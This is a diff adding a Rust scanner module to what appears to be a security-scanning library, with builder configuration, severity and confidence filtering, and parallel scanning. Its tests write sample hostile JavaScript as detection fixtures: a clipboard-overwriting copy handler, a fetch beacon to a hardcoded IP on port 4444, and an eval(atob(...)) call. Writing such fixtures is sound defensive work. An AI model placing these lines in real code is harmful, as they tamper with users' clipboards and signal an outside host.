@@ -0,0 +1,226 @@
+//! Reusable scanner holding a skill registry and scan settings
+//!
+//! Building a registry compiles every detector's regexes and parameter
+//! schemas, so long-running callers should build a [`Scanner`] once and
+//! reuse it:
+//!
+//! ```rust,ignore
+//! use firewall_core::{Scanner, Severity};
+//!
+//! let scanner = Scanner::builder()
+//!     .with_default_skills()
+//!     .min_severity(Severity::Medium)
+//!     .confidence_floor(0.8)
+//!     .build();
+//!
+//! let findings = scanner.scan("/path/to/scan")?;
+//! ```
+//!
+//! The free [`scan_path`](crate::scan_path) uses a shared default scanner.
+
+use crate::report::ScanReport;
+use crate::skills::{create_default_registry, Finding, Severity, Skill, SkillRegistry, SkillResult};
+use crate::ScanOptions;
+use rayon::prelude::*;
+use std::path::Path;
+use std::sync::OnceLock;
+
+/// A configured scanner; cheap to share across threads
+pub struct Scanner {
+    registry: SkillRegistry,
+    options: ScanOptions,
+    min_severity: Severity,
+    confidence_floor: f32,
+}
+
+impl Scanner {
+    /// Start building a scanner with no skills
+    pub fn builder() -> ScannerBuilder {
+        ScannerBuilder::default()
+    }
+
+    /// Default-skill scanner shared by the free scan functions
+    pub(crate) fn shared() -> &'static Scanner {
+        static SHARED: OnceLock<Scanner> = OnceLock::new();
+        SHARED.get_or_init(|| Scanner::builder().with_default_skills().build())
+    }
+
+    /// Skills this scanner runs
+    pub fn registry(&self) -> &SkillRegistry {
+        &self.registry
+    }
+
+    /// Options every scan runs under
+    pub fn options(&self) -> &ScanOptions {
+        &self.options
+    }
+
+    /// Scan a file or directory and return the deduplicated findings
+    pub fn scan(&self, path: &str) -> SkillResult<Vec<Finding>> {
+        self.scan_report(path).map(|report| report.aggregate.findings)
+    }
+
+    /// Scan a file or directory, keeping each skill's output
+    ///
+    /// Findings below the minimum severity or confidence floor are dropped
+    /// from both the per-skill outputs and the aggregate.
+    pub fn scan_report(&self, path: &str) -> SkillResult<ScanReport> {
+        let mut report = crate::run_scan(&self.registry, path, &self.options)?;
+        let keep = |f: &Finding| {
+            f.severity >= self.min_severity && f.confidence >= self.confidence_floor
+        };
+        for output in report.skills.values_mut() {
+            output.findings.retain(keep);
+        }
+        report.aggregate.findings.retain(keep);
+
+        Ok(report)
+    }
+
+    /// Scan several paths in parallel; results come back in input order,
+    /// each paired with its path
+    pub fn scan_many<P: AsRef<Path> + Sync>(
+        &self,
+        paths: &[P],
+    ) -> Vec<(String, SkillResult<Vec<Finding>>)> {
+        paths
+            .par_iter()
+            .map(|path| {
+                let path = path.as_ref().display().to_string();
+                let result = self.scan(&path);
+                (path, result)
+            })
+            .collect()
+    }
+}
+
+/// Builder for [`Scanner`]
+pub struct ScannerBuilder {
+    registry: SkillRegistry,
+    options: ScanOptions,
+    min_severity: Severity,
+    confidence_floor: f32,
+}
+
+impl Default for ScannerBuilder {
+    fn default() -> Self {
+        Self {
+            registry: SkillRegistry::new(),
+            options: ScanOptions::default(),
+            min_severity: Severity::Info,
+            confidence_floor: 0.0,
+        }
+    }
+}
+
+impl ScannerBuilder {
+    /// Add every built-in detector
+    pub fn with_default_skills(mut self) -> Self {
+        let defaults = create_default_registry();
+        for skill in defaults.list().iter().filter_map(|name| defaults.get(name)) {
+            self.registry.register_arc(skill);
+        }
+        self
+    }
+
+    /// Add a skill, replacing any registered under the same name
+    pub fn with_skill<S: Skill + 'static>(mut self, skill: S) -> Self {
+        self.registry.register(skill);
+        self
+    }
+
+    /// Add the `detect_custom_rules` skill from a JSON/TOML rules file
+    pub fn with_custom_rules(mut self, path: &Path) -> SkillResult<Self> {
+        self.registry.register_custom_rules(path)?;
+        Ok(self)
+    }
+
+    /// Drop findings below this severity (default: keep everything)
+    pub fn min_severity(mut self, severity: Severity) -> Self {
+        self.min_severity = severity;
+        self
+    }
+
+    /// Drop findings with confidence below this (default 0.0)
+    pub fn confidence_floor(mut self, confidence: f32) -> Self {
+        self.confidence_floor = confidence;
+        self
+    }
+
+    /// Options every scan runs under. `rules_path` is ignored here; use
+    /// [`with_custom_rules`](Self::with_custom_rules) instead.
+    pub fn options(mut self, options: ScanOptions) -> Self {
+        self.options = options;
+        self
+    }
+
+    /// Finish building
+    pub fn build(self) -> Scanner {
+        Scanner {
+            registry: self.registry,
+            options: self.options,
+            min_severity: self.min_severity,
+            confidence_floor: self.confidence_floor,
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::fs;
+
+    #[test]
+    fn test_builder_filters_findings() {
+        let dir = tempfile::tempdir().unwrap();
+        fs::write(
+            dir.path().join("payload.js"),
+            "document.addEventListener('copy', e => e.clipboardData.setData('text', w));\n\
+             fetch('http://45.33.32.156:4444/beacon');\n",
+        )
+        .unwrap();
+        let path = dir.path().to_str().unwrap();
+
+        let everything = Scanner::builder().with_default_skills().build().scan(path).unwrap();
+        assert!(!everything.is_empty());
+        let fingerprints = |findings: &[Finding]| -> Vec<String> {
+            findings.iter().map(Finding::fingerprint).collect()
+        };
+        assert_eq!(
+            fingerprints(&everything),
+            fingerprints(&crate::scan_path(path).unwrap())
+        );
+
+        let scanner = Scanner::builder()
+            .with_default_skills()
+            .min_severity(Severity::High)
+            .confidence_floor(0.8)
+            .build();
+        let filtered = scanner.scan(path).unwrap();
+        assert!(filtered.len() < everything.len());
+        assert!(filtered
+            .iter()
+            .all(|f| f.severity >= Severity::High && f.confidence >= 0.8));
+    }
+
+    #[test]
+    fn test_scan_many_keeps_input_order() {
+        let dir = tempfile::tempdir().unwrap();
+        fs::write(dir.path().join("a.js"), "eval(atob('ZXZhbA=='))").unwrap();
+        fs::write(dir.path().join("b.txt"), "nothing to see").unwrap();
+        let paths = [dir.path().join("b.txt"), dir.path().join("missing"), dir.path().join("a.js")];
+
+        let scanner = Scanner::builder().with_default_skills().build();
+        let results = scanner.scan_many(&paths);
+        assert_eq!(results.len(), 3);
+        assert_eq!(results[0].0, paths[0].display().to_string());
+        assert!(results[1].1.is_err());
+        assert!(results[2].1.is_ok());
+    }
+
+    #[test]
+    fn test_empty_builder_has_no_skills() {
+        let scanner = Scanner::builder().build();
+        assert!(scanner.registry().list().is_empty());
+    }
+}